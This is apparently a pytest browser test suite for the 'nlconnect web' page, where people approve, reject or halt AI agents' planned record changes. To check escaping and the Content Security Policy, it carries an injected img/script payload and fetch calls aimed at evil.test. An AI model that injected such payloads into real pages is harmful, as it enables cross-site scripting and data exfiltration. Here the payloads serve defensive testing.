"""A person at the approvals page, in a real browser: `nlconnect web` as it is started, clicked and typed at."""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from nlconnect.agents.switch import Switch, store_of
from nlconnect.approvals import Book, new_key
from nlconnect.config import read_file
from nlconnect.engine.intent import Ledger
from nlconnect.model.outcome import Difference, Plan, Ruling
from nlconnect.model.ports import Store
from nlconnect.model.privacy import Personal, TagStatus
from nlconnect.model.scope import Scope
from nlconnect.transport.clock import SystemClock
from tests.browser.chromium import Chromium
from tests.browser.conftest import VARIABLE

PASSPHRASE = "a long enough passphrase"
NAME = Personal("user.name", 2, TagStatus.REVIEWED)
TRAP = '<img src="https://evil.test/pixel.png"><script>fetch("https://evil.test/")</script>'
PHONE = (360, 740)
PICTURES = Path(__file__).parents[2] / ".cache" / "browser"


@dataclass
class Desk:
    """What the page works on, in another process."""

    store: Store
    address: str

    def standing(self, plan: Plan) -> str:
        return str(Book(self.store).standing(plan, now=SystemClock().now()))

    def ask(self, number: int, *, value: str = "Voorbeeld B.V.") -> Plan:
        """An agent asks for something."""
        now = SystemClock().now()
        plan = Plan(
            id=f"1f2e3d4c5b6a79{number:02d}",
            system="exact",
            place="exact/x/y",
            entity="crm.Accounts",
            scope=Scope(division=1),
            verb="update",
            key=("a",),
            method="PUT",
            url="https://books.test/a",
            headers={},
            body=f'{{"Name":"x{number}"}}',
            diff=(Difference("name", "Acme", value, NAME),),
            warnings=("a record has this name already",),
            ruling=Ruling("allow", "purposes.desk", "contract"),
            made_at=now,
            expires_at=now + 3600,
        ).sealed()
        Ledger(self.store).keep(plan)
        told = ["facturen@klant.test: registered with who is invoiced"]
        Book(self.store).ask(plan, profile="acme", agent="assistant", purpose="desk", now=now, recipients=told)
        return plan


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Desk]:
    folder = tmp_path_factory.mktemp("desk")
    settings = folder / "nlconnect.toml"
    settings.write_text('[settings]\nstate = "sqlite:///state.db"\n', "utf-8")
    store = store_of(read_file(settings))
    Book(store).enrol(new_key(folder / "nlconnect" / "approvers", "jansen", passphrase=PASSPHRASE))
    environment = {**os.environ, "NLCONNECT_CONFIG": str(settings), "XDG_CONFIG_HOME": str(folder)}
    command = [str(Path(sys.executable).with_name("nlconnect")), "web"]
    with subprocess.Popen(command, cwd=folder, env=environment, stdout=subprocess.PIPE, text=True) as server:
        try:
            assert server.stdout is not None
            address = server.stdout.readline().strip()
            assert address.startswith("http://127.0.0.1:")
            yield Desk(store, address)
        finally:
            server.terminate()
    store.close()


@pytest.fixture
def browser(tmp_path: Path) -> Iterator[Chromium]:
    with Chromium(os.environ[VARIABLE], tmp_path / "profile") as found:
        found.size(1280, 900, phone=False)
        yield found
        assert found.strayed == [], "nothing leaves this machine"


def test_a_person_signs_in_looks_and_says_yes(desk: Desk, browser: Chromium) -> None:
    plan = desk.ask(1)
    opened(browser, desk)
    assert "key=" not in browser.ask("location.href"), "the key leaves the address bar at once"
    assert "Wacht op u" in browser.text
    browser.follow("Wijzigen: crm.Accounts")
    for told in ("assistant", "Acme", "Voorbeeld B.V.", "facturen@klant.test", "a record has this name already"):
        assert told in browser.text
    browser.picture(PICTURES / "plan.png")
    browser.type("input[name=passphrase]", PASSPHRASE)
    browser.click("button[value=approve]")
    assert "goedgekeurd door jansen" in browser.text
    assert desk.standing(plan) == "approved by jansen"
    assert browser.faults == []


def test_a_wrong_passphrase_is_no_yes(desk: Desk, browser: Chromium) -> None:
    plan = desk.ask(2)
    opened(browser, desk, plan)
    browser.type("input[name=passphrase]", "something else entirely")
    browser.click("button[value=approve]")
    assert "passphrase" in browser.text
    assert desk.standing(plan).startswith("waits for")
    assert browser.ask("document.querySelector('input[name=passphrase]').value") == ""


def test_a_person_says_no_with_a_reason(desk: Desk, browser: Chromium) -> None:
    plan = desk.ask(3)
    opened(browser, desk, plan)
    browser.type("input[name=passphrase]", PASSPHRASE)
    browser.type("input[name=reason]", "verkeerde klant")
    browser.click("button[value=reject]")
    assert "verkeerde klant" in browser.text
    assert desk.standing(plan) == "rejected by jansen: verkeerde klant"


def test_what_stands_in_a_record_is_text_and_loads_nothing(desk: Desk, browser: Chromium) -> None:
    plan = desk.ask(4, value=TRAP)
    opened(browser, desk, plan)
    assert TRAP in browser.text, "a person sees what would be written"
    assert browser.ask("document.querySelectorAll('img, script, iframe, link, object').length") == 0
    assert not any("evil.test" in address for address in browser.requests)


def test_even_a_script_that_got_in_could_send_nothing(desk: Desk, browser: Chromium) -> None:
    """The page's own rule for the browser, tried as an injected script would."""
    opened(browser, desk)
    tried = "fetch('https://evil.test/').then(() => 'sent', () => 'refused')"
    assert browser.ask(tried) == "refused"
    made = "const one = document.createElement('img'); one.src = 'https://evil.test/x.png'; document.body.append(one)"
    browser.ask(f"(() => {{ {made}; return 1 }})()")
    assert any("Content Security Policy" in fault for fault in browser.faults)


def test_without_the_key_a_browser_sees_nothing(desk: Desk, browser: Chromium) -> None:
    plan = desk.ask(5)
    origin = desk.address.partition("/?")[0]
    for path in ("/", f"/plan/{plan.id}", "/audit", "/?key=wrong"):
        browser.open(f"{origin}{path}")
        assert "assistant" not in browser.text
        assert browser.ask("document.forms.length") == 0


def test_the_stop_button_stops_agents(desk: Desk, browser: Chromium) -> None:
    opened(browser, desk)
    browser.click("button[value=stop]")
    assert "Alle agents staan stil" in browser.text
    assert Switch(desk.store).stopped_since("assistant") is not None
    browser.click("button[value=start]")
    assert Switch(desk.store).stopped_since("assistant") is None


def test_a_person_looks_at_budgets_connections_and_agents(desk: Desk, browser: Chromium) -> None:
    opened(browser, desk)
    for name, told in (("Budgetten", "[agents.NAAM.budget]"), ("Verbindingen", "profile add"), ("Agents", "logboek")):
        browser.follow(name)
        assert told in browser.text
        browser.picture(PICTURES / f"{name.lower()}.png")
    assert browser.faults == []


def test_on_a_phone_all_of_it_fits_and_can_be_pressed(desk: Desk, browser: Chromium) -> None:
    plan = desk.ask(6, value="Een-heel-lange-naam-zonder-blanco-" * 8)
    browser.size(*PHONE, phone=True)
    opened(browser, desk)
    for path in ("/", "/budgets", "/connections", "/agents", "/audit", f"/plan/{plan.id}"):
        browser.open(f"{desk.address.partition('/?')[0]}{path}")
        assert browser.ask("document.documentElement.scrollWidth") <= PHONE[0], f"{path} has to be moved sideways"
    small = (
        "[...document.querySelectorAll('button, input:not([type=hidden]), select')]"
        ".filter(one => one.getBoundingClientRect().height < 32).map(one => one.name)"
    )
    assert browser.ask(small) == [], "a finger is larger than that"
    browser.picture(PICTURES / "phone.png")
    browser.type("input[name=passphrase]", PASSPHRASE)
    browser.click("button[value=approve]")
    assert desk.standing(plan) == "approved by jansen"


def opened(browser: Chromium, desk: Desk, plan: Plan | None = None) -> None:
    """Sign in with the address from the terminal, and go to a plan."""
    browser.open(desk.address)
    if plan is not None:
        browser.open(f"{desk.address.partition('/?')[0]}/plan/{plan.id}")
